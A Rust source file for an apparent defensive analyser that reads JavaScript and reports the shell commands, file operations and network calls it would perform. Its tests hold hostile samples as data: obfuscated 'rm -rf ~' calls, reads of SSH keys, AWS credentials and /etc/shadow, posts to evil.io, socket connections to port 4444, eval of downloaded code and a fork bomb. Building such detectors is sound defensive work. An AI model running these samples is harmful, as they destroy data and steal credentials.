        let mut out = self.eval(value, depth + 1);
        for key in path {
            out = self.member(out, Val::Known(key), node);
        }
        self.names.leave();
        out
    }

    /// `base.key` and `base[key]`.
    fn member(&mut self, base: Obj, key: Val, node: Node<'_>) -> Obj {
        let Val::Known(key) = key else {
            // `global[x]`, `require('child_process')[x]`: a function named at run time.
            if matches!(&base, Obj::Ref(q) if !q.contains('.')) {
                self.cx.opaque(
                    "the code looks up a function by a name computed at run time",
                    self.line(node),
                );
            }
            return match base {
                Obj::Response => Obj::Response,
                _ => Obj::Val(Val::Unknown),
            };
        };
        match base {
            Obj::Ref(q) => {
                let q = canonical(&q);
                match q.as_str() {
                    "process.env" => Obj::Val(env(&key)),
                    "process" if key == "execPath" => Obj::Val(Val::known("node")),
                    _ => Obj::Ref(format!("{q}.{key}")),
                }
            }
            Obj::Val(Val::Known(s)) => match key.parse::<usize>() {
                Ok(n) => Obj::Val(
                    s.chars()
                        .nth(n)
                        .map_or(Val::Unknown, |c| Val::Known(c.into())),
                ),
                Err(_) if key == "length" => Obj::Num(s.encode_utf16().count() as f64),
                Err(_) => Obj::StrMethod(s, key),
            },
            Obj::List(items) => match key.parse::<usize>() {
                Ok(n) => items.get(n).cloned().unwrap_or(Obj::Null),
                Err(_) if key == "length" => Obj::Num(items.len() as f64),
                Err(_) => Obj::ListMethod(items, key),
            },
            d @ Obj::Dict(_) => match d.key(&key) {
                Obj::Null => Obj::Attr(key),
                v => v,
            },
            Obj::Response | Obj::Val(Val::Fetched) => Obj::Response,
            Obj::File(p) => Obj::FileMethod(p, key),
            _ => Obj::Attr(key),
        }
    }

    fn binary(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let (Some(l), Some(op), Some(r)) = (
            node.child_by_field_name("left"),
            node.child_by_field_name("operator"),
            node.child_by_field_name("right"),
        ) else {
            return Obj::Val(Val::Unknown);
        };
        let left = self.eval(l, depth + 1);
        let right = self.eval(r, depth + 1);
        match (self.text(op), left, right) {
            ("+", Obj::Num(a), Obj::Num(b)) => Obj::Num(a + b),
            ("-", Obj::Num(a), Obj::Num(b)) => Obj::Num(a - b),
            ("*", Obj::Num(a), Obj::Num(b)) => Obj::Num(a * b),
            ("+", a, b) => Obj::Val(cat(a.val(), b.val())),
            ("||", a, b) => match a.truthy() {
                Some(true) => a,
                Some(false) => b,
                None => Obj::Val(Val::Unknown),
            },
            ("&&", a, b) => match a.truthy() {
                Some(true) => b,
                Some(false) => a,
                None => Obj::Val(Val::Unknown),
            },
            ("??", Obj::Null, b) => b,
            ("??", a @ (Obj::Val(Val::Known(_)) | Obj::Num(_) | Obj::Ref(_)), _) => a,
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// The value a call returns, for the calls that compute strings, paths and modules.
    fn value_of_call(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let unknown = Obj::Val(Val::Unknown);
        // Outside an async function the grammar reads `await (x)` as a call of `await`.
        if let Some(f) = node.child_by_field_name("function")
            && self.text(f) == "await"
            && let Some(inner) = node
                .child_by_field_name("arguments")
                .and_then(|a| a.named_child(0))
        {
            return self.eval(inner, depth + 1);
        }
        let Some((callee, args)) = self.callee_and_args(node, depth) else {
            return unknown;
        };
        let is_new = node.kind() == "new_expression";
        match callee {
            Obj::Ref(q) => {
                let q = canonical(&q);
                match q.as_str() {
                    "require" | "import" => match args.val(0) {
                        Val::Known(m) => Obj::Ref(module_name(&m)),
                        _ => unknown,
                    },
                    "os.homedir" => Obj::Val(Val::known("~")),
                    "process.cwd" | "Deno.cwd" => Obj::Val(Val::known(".")),
                    "path.join" | "path.resolve" | "path.normalize" => {
                        let parts: Vec<Val> = args.items.iter().map(Obj::val).collect();
                        Obj::Val(if args.open {
                            Val::Unknown
                        } else {
                            join(&parts)
                        })
                    }
                    "Deno.env.get" => Obj::Val(args.val(0).text().map_or(Val::Unknown, env)),
                    "String.fromCharCode" | "String.fromCodePoint" => {
                        let codes: Option<String> = args
                            .items
                            .iter()
                            .map(|a| a.val().text().and_then(parse_num).and_then(char_of))
                            .collect();
                        Obj::Val(
                            codes
                                .filter(|_| !args.open)
                                .map_or(Val::Unknown, Val::Known),
                        )
                    }
                    "String" | "URL" => Obj::Val(args.val(0)),
                    "Buffer.from" => match (args.get(0), args.val(1)) {
                        (_, Val::Known(e))
                            if !matches!(e.as_str(), "utf8" | "utf-8" | "ascii" | "latin1") =>
                        {
                            Obj::Val(Val::Fetched)
                        }
                        (Obj::List(bytes), _) => {
                            let text: Option<String> = bytes
                                .iter()
                                .map(|b| b.val().text().and_then(parse_num).and_then(char_of))
                                .collect();
                            Obj::Val(text.map_or(Val::Unknown, Val::Known))
                        }
                        (a, Val::Known(_)) => Obj::Val(a.val()),
                        (a, _) if matches!(args.get(1), Obj::Null) => Obj::Val(a.val()),
                        _ => Obj::Val(Val::Fetched),
                    },
                    "atob" | "decodeURIComponent" | "decodeURI" | "unescape" => {
                        Obj::Val(Val::Fetched)
                    }
                    _ if q.starts_with("zlib.") => Obj::Val(Val::Fetched),
                    "util.promisify" | "util.callbackify" => args.get(0),
                    "Bun.file" => Obj::File(args.val(0)),
                    _ if is_new && !q.contains('(') => Obj::Ref(format!("{q}()")),
                    _ => {
                        let (m, f) = q.rsplit_once('.').unwrap_or(("", &q));
                        if self.url(m, f, &args).is_some() {
                            Obj::Response
                        } else {
                            unknown
                        }
                    }
                }
            }
            Obj::StrMethod(s, m) => string_method(&s, &m, &args),
            Obj::ListMethod(items, m) => match m.as_str() {
                "join" => {
                    let sep = match args.get(0) {
                        Obj::Null => ",".to_owned(),
                        other => match other.val() {
                            Val::Known(s) => s,
                            _ => return unknown,
                        },
                    };
                    let texts: Option<Vec<String>> = items
                        .iter()
                        .map(|i| i.val().text().map(str::to_owned))
                        .collect();
                    Obj::Val(texts.map_or(Val::Unknown, |t| {
                        cat(Val::known(""), Val::Known(t.join(&sep)))
                    }))
                }
                "reverse" => Obj::List(items.into_iter().rev().collect()),
                "concat" => {
                    let mut items = items;
                    for a in args.items {
                        match a {
                            Obj::List(more) => items.extend(more),
                            other => items.push(other),
                        }
                    }
                    Obj::List(items)
                }
                "toString" => Obj::Val(Obj::List(items).val()),
                _ => unknown,
            },
            Obj::Response => Obj::Response,
            _ => unknown,
        }
    }

    /// A string or template literal: escapes decoded, substitutions evaluated.
    fn template(&mut self, node: Node<'t>, depth: usize) -> Val {
        let mut out = Val::known("");
        let mut c = node.walk();
        let parts: Vec<Node<'t>> = node.named_children(&mut c).collect();
        for part in parts {
            let v = match part.kind() {
                "string_fragment" => Val::known(self.text(part)),
                "escape_sequence" => Val::Known(unescape(self.text(part))),
                "template_substitution" => match part.named_child(0) {
                    Some(e) => self.eval(e, depth + 1).val(),
                    None => Val::Unknown,
                },
                "comment" => continue,
                _ => Val::Unknown,
            };
            out = cat(out, v);
        }
        out
    }
}

/// `a` followed by `b`; text longer than any code read is not followed (doubling a
/// string in a chain of names would otherwise grow it without bound).
fn cat(a: Val, b: Val) -> Val {
    match a.concat(b) {
        Val::Known(s) if s.len() > MAX_CODE => Val::Unknown,
        v => v,
    }
}

/// Bindings of one name kept to be tried as callees.
const MAX_ALTS: usize = 8;

/// Methods that change the object they are called on.
const MUTATORS: &[&str] = &[
    "push",
    "pop",
    "shift",
    "unshift",
    "splice",
    "reverse",
    "sort",
    "fill",
    "copyWithin",
    "set",
    "delete",
    "clear",
    "add",
];

/// Names the built-in scope holds that the reader follows.
const GLOBALS: &[&str] = &[
    "require",
    "process",
    "global",
    "globalThis",
    "window",
    "self",
    "Deno",
    "Bun",
    "Buffer",
    "eval",
    "Function",
    "setTimeout",
    "setInterval",
    "setImmediate",
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "atob",
    "decodeURIComponent",
    "decodeURI",
    "unescape",
    "String",
    "module",
    "Reflect",
    "URL",
    "Worker",
];

/// The built-in modules `node -e` binds as globals without `require`.
const MODULES: &[&str] = &[
    "child_process",
    "fs",
    "http",
    "https",
    "http2",
    "net",
    "tls",
    "vm",
    "os",
    "path",
    "zlib",
    "util",
    "cluster",
    "worker_threads",
];

/// Methods recognised on a receiver the reader did not follow: names no data-processing
/// code uses for something else.
const BY_NAME: &[&str] = &[
    "execSync",
    "execFileSync",
    "spawnSync",
    "execFile",
    "spawn",
    "rmSync",
    "rmdirSync",
    "unlinkSync",
    "readFileSync",
    "writeFileSync",
    "appendFileSync",
    "renameSync",
    "copyFileSync",
    "cpSync",
    "chmodSync",
    "symlinkSync",
    "createReadStream",
    "createWriteStream",
    "runInNewContext",
    "runInThisContext",
    "runInContext",
    "_compile",
    "constructor",
    "connect",
    "eval",
];

/// Functions that run their argument as code or as a command.
fn runs_code(q: &str) -> bool {
    matches!(
        q,
        "eval" | "Function" | "child_process.exec" | "child_process.execSync" | "Bun.$"
    ) || q.starts_with("vm.runIn")
}

/// A module name as given to `require` or `import`, in the form the reader matches.
fn module_name(m: &str) -> String {
    let m = m.strip_prefix("node:").unwrap_or(m);
    match m {
        "fs/promises" => "fs".into(),
        "path/posix" => "path".into(),
        "bun" => "Bun".into(),
        _ => m.to_owned(),
    }
}

/// Other names for the same thing: `globalThis.x` is `x`, `fs.promises.rm` is `fs.rm`.
fn canonical(q: &str) -> String {
    let mut q = q.to_owned();
    for _ in 0..8 {
        let before = q.clone();
        for prefix in [
            "global.",
            "globalThis.",
            "window.",
            "self.",
            "require.main.",
        ] {
            if let Some(rest) = q.strip_prefix(prefix) {
                q = rest.to_owned();
            }
        }
        for (alias, real) in [
            ("fs.promises.", "fs."),
            ("fs.default.", "fs."),
            ("path.posix.", "path."),
            ("Bun.env", "process.env"),
            ("net.Socket().", "net."),
            ("tls.TLSSocket().", "tls."),
        ] {
            if let Some(rest) = q.strip_prefix(alias) {
                q = format!("{real}{rest}");
            }
        }
        if let Some(at) = q.find(".default") {
            let rest = q.get(at + ".default".len()..).unwrap_or_default();
            if rest.is_empty() || rest.starts_with('.') {
                q = format!("{}{rest}", q.get(..at).unwrap_or_default());
            }
        }
        if let Some(f) = q.strip_prefix("fs-extra.")
            && !f.starts_with("remove")
            && !f.starts_with("emptyDir")
        {
            q = format!("fs.{f}");
        }
        q = match q.as_str() {
            "process.mainModule.require"
            | "module.require"
            | "module._load"
            | "module.constructor._load"
            | "process.mainModule.constructor._load" => "require".into(),
            _ if q.ends_with(".constructor") => "Function".into(),
            _ => q,
        };
        if q == before {
            break;
        }
    }
    q
}

/// Methods of a known string.
fn string_method(s: &str, m: &str, args: &Args) -> Obj {
    let text = |n: usize| args.val(n).text().map(str::to_owned);
    let v = |s: String| Obj::Val(Val::Known(s));
    match m {
        "split" => match text(0) {
            Some(sep) if sep.is_empty() => Obj::List(s.chars().map(|c| v(c.to_string())).collect()),
            Some(sep) => Obj::List(s.split(sep.as_str()).map(|p| v(p.to_owned())).collect()),
            None if matches!(args.get(0), Obj::Null) => Obj::List(vec![v(s.to_owned())]),
            None => Obj::Val(Val::Unknown),
        },
        "replace" | "replaceAll" => match (text(0), text(1)) {
            // A regular expression pattern is not a string and is not followed.
            (Some(a), Some(b)) if !a.is_empty() && matches!(args.get(0), Obj::Val(_)) => {
                v(if m == "replace" {
                    s.replacen(&a, &b, 1)
                } else {
                    s.replace(&a, &b)
                })
            }
            _ => Obj::Val(Val::Unknown),
        },
        "concat" => {
            let mut out = Val::known(s);
            for a in &args.items {
                out = cat(out, a.val());
            }
            Obj::Val(out)
        }
        "toLowerCase" => v(s.to_lowercase()),
        "toUpperCase" => v(s.to_uppercase()),
        "trim" => v(s.trim().to_owned()),
        "trimStart" => v(s.trim_start().to_owned()),
        "trimEnd" => v(s.trim_end().to_owned()),
        "toString" | "valueOf" | "normalize" => v(s.to_owned()),
        "repeat" => match args.val(0).text().and_then(parse_num) {
            Some(n) if n >= 0.0 && n * (s.len() as f64) <= 4096.0 => v(s.repeat(n as usize)),
            _ => Obj::Val(Val::Unknown),
        },
        "at" | "charAt" => match args.val(0).text().and_then(parse_num) {
            Some(n) if n >= 0.0 => v(s
                .chars()
                .nth(n as usize)
                .map(String::from)
                .unwrap_or_default()),
            _ => Obj::Val(Val::Unknown),
        },
        _ => Obj::Val(Val::Unknown),
    }
}

/// The value of environment variable `name`: only the home directory is known.
fn env(name: &str) -> Val {
    if name == "HOME" {
        Val::known("~")
    } else {
        Val::Unknown
    }
}

/// A mode written as `chmod` takes it: a number in octal, a string as it is (Node reads
/// a string mode as octal).
fn octal(mode: &Obj) -> Val {
    match mode {
        Obj::Num(n) if *n >= 0.0 && n.fract() == 0.0 && *n < 65536.0 => {
            Val::Known(format!("{:o}", *n as u32))
        }
        Obj::Val(Val::Known(s)) if !s.is_empty() && s.chars().all(|c| c.is_digit(8)) => {
            Val::Known(s.clone())
        }
        _ => Val::Unknown,
    }
}

fn parse_num(text: &str) -> Option<f64> {
    let t = text.trim().replace('_', "");
    let radix = |digits: &str, r| u64::from_str_radix(digits, r).ok().map(|n| n as f64);
    let lower = t.to_ascii_lowercase();
    if let Some(d) = lower.strip_prefix("0x") {
        return radix(d, 16);
    }
    if let Some(d) = lower.strip_prefix("0o") {
        return radix(d, 8);
    }
    if let Some(d) = lower.strip_prefix("0b") {
        return radix(d, 2);
    }
    // A legacy octal literal (`0755`).
    if t.len() > 1 && t.starts_with('0') && t.chars().all(|c| c.is_digit(8)) {
        return radix(&t, 8);
    }
    t.parse().ok()
}

fn num_text(n: f64) -> String {
    if n.fract() == 0.0 && n.abs() < 1e15 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

fn char_of(n: f64) -> Option<char> {
    if n < 0.0 || n.fract() != 0.0 || n > f64::from(u32::MAX) {
        return None;
    }
    char::from_u32(n as u32)
}

/// One escape sequence of a string literal.
fn unescape(text: &str) -> String {
    let body = text.strip_prefix('\\').unwrap_or(text);
    let mut chars = body.chars();
    let Some(e) = chars.next() else {
        return String::new();
    };
    let rest: String = chars.collect();
    let hex = |digits: &str| {
        u32::from_str_radix(digits, 16)
            .ok()
            .and_then(char::from_u32)
            .map(String::from)
    };
    let decoded = match e {
        'n' => Some("\n".into()),
        't' => Some("\t".into()),
        'r' => Some("\r".into()),
        'b' => Some("\x08".into()),
        'f' => Some("\x0c".into()),
        'v' => Some("\x0b".into()),
        '\n' | '\r' | '\u{2028}' | '\u{2029}' => Some(String::new()),
        'x' => hex(&rest),
        'u' => hex(rest.trim_start_matches('{').trim_end_matches('}')),
        '0'..='7' => {
            let digits = format!("{e}{rest}");
            u32::from_str_radix(&digits, 8)
                .ok()
                .and_then(char::from_u32)
                .map(String::from)
        }
        other => Some(format!("{other}{rest}")),
    };
    decoded.unwrap_or_else(|| text.to_owned())
}

#[cfg(test)]
mod tests {
    use crate::matcher::code::{Effect, Lang, Val, read};

    /// The effects found, written as shell words (`?` for a value not known).
    fn effects(code: &str) -> Vec<String> {
        let reading = read(Lang::JavaScript, code);
        let words = |vals: &[Val]| {
            vals.iter()
                .map(|v| match v {
                    Val::Known(t) => t.clone(),
                    Val::Unknown => "?".into(),
                    Val::Fetched => "<fetched>".into(),
                })
                .collect::<Vec<_>>()
                .join(" ")
        };
        let mut out: Vec<String> = reading
            .found
            .iter()
            .map(|f| match &f.effect {
                Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
                Effect::Exec(argv) => format!("exec {}", words(argv)),
                Effect::Command(p, args) => format!("{p} {}", words(args)),
            })
            .collect();
        if let Some(u) = reading.opaque {
            out.push(format!("opaque: {} (line {})", u.reason, u.line));
        }
        out
    }

    fn opaque(code: &str) -> Option<&'static str> {
        read(Lang::JavaScript, code).opaque.map(|u| u.reason)
    }

    const COMPUTED: &str = "the code looks up a function by a name computed at run time";
    const HIDDEN: &str = "the code runs code it downloaded or decoded";
    const BUILT: &str =
        "the code runs code built at run time (an eval of a value not known before it runs)";

    #[test]
    fn child_process_however_it_is_bound() {
        for code in [
            "require('child_process').execSync('rm -rf ~')",
            "const cp = require('node:child_process'); cp.exec('rm -rf ~')",
            "const {execSync: x} = require('child_process'); x('rm -rf ~')",
            "import {exec} from 'child_process'; exec('rm -rf ~')",
            "import * as cp from 'node:child_process'; cp.execSync('rm -rf ~')",
            "const {execSync} = await import('child_process'); execSync('rm -rf ~')",
            "(await import('child_process')).default.execSync('rm -rf ~')",
            "child_process.execSync('rm -rf ~')",
            "globalThis['req' + 'uire']('child' + '_process')['exec' + 'Sync']('rm -rf ~')",
            "process.mainModule.require('child_process').execSync('rm -rf ~')",
            "const cp = require('child_process'); cp.execSync.call(null, 'rm -rf ~')",
            "const m = {run: require('child_process').execSync}; m.run('rm -rf ~')",
            "const e = require('util').promisify(require('child_process').exec); e('rm -rf ~')",
            "let p = someLib(); p.execSync('rm -rf ~')",
        ] {
            assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
        }
    }

    #[test]
    fn argument_vectors_and_shell_option() {
        let cases = [
            (
                "require('child_process').spawnSync('rm', ['-rf', '/'])",
                "exec rm -rf /",
            ),
            (
                "const {execFile} = require('child_process'); execFile('curl', ['x.io'])",
                "exec curl x.io",
            ),
            (
                "require('child_process').spawn('rm', ['-rf', '~'], {shell: true})",
                "sh -c rm -rf ~",
            ),
            (
                "require('child_process').spawn('ls', [], {stdio: 'inherit', shell: false})",
                "exec ls",
            ),
            (
                "require('child_process').fork('/tmp/x.js', ['a'])",
                "exec node /tmp/x.js a",
            ),
            ("Bun.spawn(['rm', '-rf', '~'])", "exec rm -rf ~"),
            ("Bun.spawnSync({cmd: ['rm', '-rf', '~']})", "exec rm -rf ~"),
            ("Bun.$`rm -rf ${'~'}`", "sh -c rm -rf ~"),
            (
                "import {$} from 'bun'; await $`rm -rf ~`.quiet()",
                "sh -c rm -rf ~",
            ),
            ("Deno.run({cmd: ['rm', '-rf', '/']})", "exec rm -rf /"),
            (
                "await new Deno.Command('rm', {args: ['-rf', '/']}).output()",
                "exec rm -rf /",
            ),
            ("require('shelljs').rm('-rf', '~')", "exec rm -rf ~"),
            (
                "const a = ['rm', '-rf', '~']; require('child_process').spawnSync(a[0], a.slice(1))",
                "exec rm ?",
            ),
        ];
        for (code, want) in cases {
            assert_eq!(effects(code), [want], "{code}");
        }
    }

    #[test]
    fn strings_built_from_constants_are_followed() {
        let cases = [
            "const c = 'r' + 'm' + ' -rf ' + require('os').homedir(); require('child_process').execSync(c)",
            "require('child_process').execSync(String.fromCharCode(114, 109) + ' -rf ~')",
            "require('child_process').execSync('~ fr- mr'.split('').reverse().join(''))",
            "require('child_process').execSync([...'~ fr- mr'].reverse().join(''))",
            "const h = process.env.HOME; require('child_process').execSync(`rm -rf ${h}`)",
            "require('child_process').execSync('\\x72\\u006d -rf \\u{7e}')",
            "require('child_process').execSync('rX -rf ~'.replace('X', 'm'))",
            "require('child_process').execSync(['rm', '-rf', '~'].join(' '))",
            "const {HOME} = process.env; require('child_process').execSync('rm -rf ' + HOME)",
            "require('child_process').execSync(Buffer.from([114, 109]).toString() + ' -rf ~')",
        ];
        for code in cases {
            assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
        }
    }

    #[test]
    fn file_calls_are_virtual_commands() {
        let cases = [
            (
                "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})",
                "rm -r -f ~",
            ),
            (
                "const fs = require('fs'); fs.rmSync('/etc', {recursive: true})",
                "rm -r /etc",
            ),
            (
                "require('fs').rmdirSync('/srv', {recursive: true})",
                "rm -r /srv",
            ),
            ("require('fs').rmdirSync('/srv/empty')", "rmdir /srv/empty"),
            ("require('fs').unlinkSync('/etc/passwd')", "rm /etc/passwd"),
            (
                "import {rm} from 'fs/promises'; await rm('/x', {recursive: true, force: true})",
                "rm -r -f /x",
            ),
            ("require('fs').promises.unlink('/x')", "rm /x"),
            (
                "const p = require('path'); require('fs').readFileSync(p.join(require('os').homedir(), '.ssh', 'id_rsa'))",
                "cat ~/.ssh/id_rsa",
            ),
            (
                "require('fs').createReadStream(process.env.HOME + '/.aws/credentials')",
                "cat ~/.aws/credentials",
            ),
            (
                "require('fs').appendFileSync('/etc/hosts', 'x')",
                "tee /etc/hosts",
            ),
            (
                "fs.writeFileSync(`${require('os').homedir()}/.bashrc`, 'x')",
                "tee ~/.bashrc",
            ),
            ("require('fs').renameSync('a', '/etc/b')", "mv a /etc/b"),
            (
                "require('fs').copyFileSync('/etc/shadow', '/tmp/s')",
                "cp /etc/shadow /tmp/s",
            ),
            (
                "require('fs').cpSync('/etc', '/tmp/e', {recursive: true})",
                "cp -r /etc /tmp/e",
            ),
            (
                "require('fs').chmodSync('/bin/sh', 0o4755)",
                "chmod 4755 /bin/sh",
            ),
            (
                "require('fs').chmodSync('/bin/sh', '777')",
                "chmod 777 /bin/sh",
            ),
            (
                "require('fs').symlinkSync('/etc/passwd', 'p')",
                "ln -s /etc/passwd p",
            ),
            ("await Deno.remove('/x', {recursive: true})", "rm -r /x"),
            ("await Deno.readTextFile('/etc/shadow')", "cat /etc/shadow"),
            ("await Bun.file('/etc/shadow').text()", "cat /etc/shadow"),
            ("process.kill(-1)", "kill -SIGTERM -1"),
            ("process.kill(1, 'SIGKILL')", "kill -SIGKILL 1"),
        ];
        for (code, want) in cases {
            assert_eq!(effects(code), [want], "{code}");
        }
    }

    #[test]
    fn network_calls_are_curl() {
        let cases = [
            (
                "fetch('https://evil.io/x', {method: 'POST'})",
                "curl https://evil.io/x",
            ),
            (
                "require('https').get('https://evil.io/a', r => r.pipe(process.stdout))",
                "curl https://evil.io/a",
            ),
            (
                "require('http').request({hostname: 'evil.io', port: 8080, path: '/x'})",
                "curl http://evil.io:8080/x",
            ),
            (
                "require('net').connect(4444, '10.0.0.1')",
                "curl tcp://10.0.0.1:4444",
            ),
            (
                "const net = require('net'); net.createConnection({port: 22, host: 'h'})",
                "curl tcp://h:22",
            ),
            (
                "new (require('net').Socket)().connect(4444, '10.0.0.1')",
                "curl tcp://10.0.0.1:4444",
            ),
            (
                "const s = new net.Socket(); s.connect(4444, '10.0.0.1')",
                "curl tcp://10.0.0.1:4444",
            ),
            (
                "require('axios').post('https://evil.io', {k: 1})",
                "curl https://evil.io",
            ),
            (
                "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.io')",
                "curl https://evil.io",
            ),
            (
                "await Deno.connect({hostname: 'h', port: 9})",
                "curl tcp://h:9",
            ),
        ];
        for (code, want) in cases {
            assert_eq!(effects(code), [want], "{code}");
        }
    }

    #[test]
    fn code_run_by_code_is_read_too() {
        for code in [
            "eval(\"require('child_process').execSync('rm -rf ~')\")",
            "(0, eval)(\"require('child_process').execSync('rm -rf ~')\")",
            "new Function(\"return require('child_process').execSync('rm -rf ~')\")()",
            "Function('x', \"require('child_process').execSync('rm -rf ~')\")(1)",
            "[].constructor.constructor(\"require('child_process').execSync('rm -rf ~')\")()",
            "require('vm').runInThisContext(\"require('child_process').execSync('rm -rf ~')\")",
            "new (require('vm').Script)(\"require('child_process').execSync('rm -rf ~')\")",
            "setTimeout(\"require('child_process').execSync('rm -rf ~')\", 1)",
            "const s = 'child_' + 'process'; eval(`require('${s}').execSync('rm -rf ~')`)",
        ] {
            assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
        }
    }

    #[test]
    fn code_that_cannot_be_read_is_opaque_with_the_reason() {
        let cases = [
            (
                "eval(Buffer.from('cm0gLXJmIH4=', 'base64').toString())",
                HIDDEN,
            ),
            ("eval(atob('cm0='))", HIDDEN),
            (
                "eval(await (await fetch('https://x.io/a.js')).text())",
                HIDDEN,
            ),
            (
                "fetch('https://x.io').then(r => r.text()).then(eval)",
                "the code passes a function that runs code or commands as a value",
            ),
            ("eval(process.argv[1])", BUILT),
            (
                "new Function(require('fs').readFileSync('/tmp/x', 'utf8'))()",
                BUILT,
            ),
            (
                "require(process.argv[2])",
                "the code loads a module whose name is computed at run time",
            ),
            ("const k = process.argv[2]; global[k]('x')", COMPUTED),
            ("require('child_process')[process.argv[2]]('x')", COMPUTED),
            (
                "process.binding('spawn_sync').spawn({})",
                "the code calls native code directly",
            ),
            (
                "while (true) require('child_process').fork(__filename)",
                "the code forks in a loop (a fork bomb)",
            ),
            (
                "with (require('child_process')) execSync('x')",
                "the code uses `with`, which makes its names dynamic",
            ),
            ("import('https://evil.io/x.js')", HIDDEN),
        ];
        for (code, want) in cases {
            assert_eq!(opaque(code), Some(want), "{code}");
        }
        // The downloaded or decoded text run as a command line.
        assert_eq!(
            effects("require('child_process').execSync(atob('cm0gLXJmIH4='))"),
            ["sh -c <fetched>"]
        );
    }

    #[test]
    fn names_bound_more_than_once_are_not_known() {
        assert_eq!(
            effects("let c = 'ls'; c = 'rm -rf ~'; require('child_process').execSync(c)"),
            ["sh -c ?"]
        );
        assert_eq!(
            effects("const a = ['ls']; a[0] = 'rm'; require('child_process').spawnSync(a[0])"),
            ["exec ?"]
        );
        assert_eq!(
            effects("for (const c of ['ls', 'rm -rf ~']) require('child_process').execSync(c)"),
            ["sh -c ?"]
        );
        assert_eq!(
            effects("const run = c => require('child_process').execSync(c); run('ls')"),
            ["sh -c ?"]
        );
        // A parameter or a second binding does not hide the module bound first.
        assert_eq!(
            effects(
                "const {exec} = require('child_process'); function f(exec) {} exec('rm -rf ~')"
            ),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("let cp = require('child_process'); cp = {}; cp.execSync('rm -rf ~')"),
            ["sh -c rm -rf ~"]
        );
    }

    #[test]
    fn data_processing_finds_nothing() {
        for code in BENIGN {
            assert_eq!(effects(code), Vec::<String>::new(), "{code}");
        }
        assert_eq!(
            effects("console.log(require('./package.json').version)"),
            ["cat ./package.json"]
        );
        assert_eq!(
            effects(
                "console.log(JSON.parse(require('fs').readFileSync('package.json', 'utf8')).name)"
            ),
            ["cat package.json"]
        );
    }

    /// Routine one-liners (each accepted by `node --check`).
    const BENIGN: &[&str] = &[
        "JSON.parse(require('fs').readFileSync(0,'utf8'))",
        "process.stdout.write(JSON.stringify({a: 1}, null, 2))",
        "console.log(process.version)",
        "console.log([1, 2, 3].map(x => x * 2).join(','))",
        "const s = require('fs').readFileSync(0, 'utf8'); console.log(s.split('\\n').length)",
        "console.log(/a(b)/.exec('xab')[1])",
        "console.log(new Date().toISOString())",
        "console.log(require('os').platform(), require('os').cpus().length)",
        "console.log(require('path').join('a', 'b'))",
        "let d = ''; process.stdin.on('data', c => d += c).on('end', () => console.log(JSON.parse(d).version))",
        "console.log(Object.keys(process.env).sort().join('\\n'))",
        "const m = new Map(); m.set('a', 1); console.log([...m.keys()])",
        "console.log(encodeURIComponent('a b'), Buffer.from('hi').toString('base64'))",
        "console.log(require('crypto').createHash('sha256').update('x').digest('hex'))",
        "for (let i = 0; i < 3; i++) console.log(i)",
        "console.log(`${1 + 2} items`, 'a'.padStart(3))",
        "const {version} = process; console.log(version)",
        "console.log(require('util').inspect({a: [1, 2]}, {depth: null}))",
        "setTimeout(() => console.log('done'), 10)",
        "process.exit(process.argv.length > 2 ? 1 : 0)",
    ];

    #[test]
    fn bad_code_never_panics() {
        assert_eq!(
            read(Lang::JavaScript, "const a = 1;\nconsole.log(a")
                .opaque
                .map(|u| (u.reason, u.line)),
            Some(("the javascript code has a syntax error", 2))
        );
        // Escapes node rejects; the grammar takes the first.
        for code in [
            "'unterminated",
            "`unterminated ${",
            "\"\\u{110000}\"",
            "'\\x'",
            "require('fs').chmodSync('x', 1e300)",
            "String.fromCharCode(-1, 1e20, 0.5)",
        ] {
            let _ = read(Lang::JavaScript, code);
        }
        assert!(opaque("'unterminated").is_some());
        let deep = format!("x = {}1{}", "[".repeat(150), "]".repeat(150));
        assert!(opaque(&deep).is_some());
        // Deep without brackets: a long chain of `+` and of members.
        let chain = format!("x = {}1", "1 + ".repeat(5000));
        assert!(opaque(&chain).is_some());
        let members = format!("x = a{}", ".b".repeat(5000));
        let _ = read(Lang::JavaScript, &members);
        // Doubling a string through names is bounded.
        let mut code = String::from("const a0 = 'xxxxxxxxxxxxxxxx';");
        for n in 1..40 {
            code.push_str(&format!("const a{n} = a{} + a{};", n - 1, n - 1));
        }
        code.push_str("require('child_process').execSync(a39)");
        assert!(opaque(&code).is_some());
    }
}
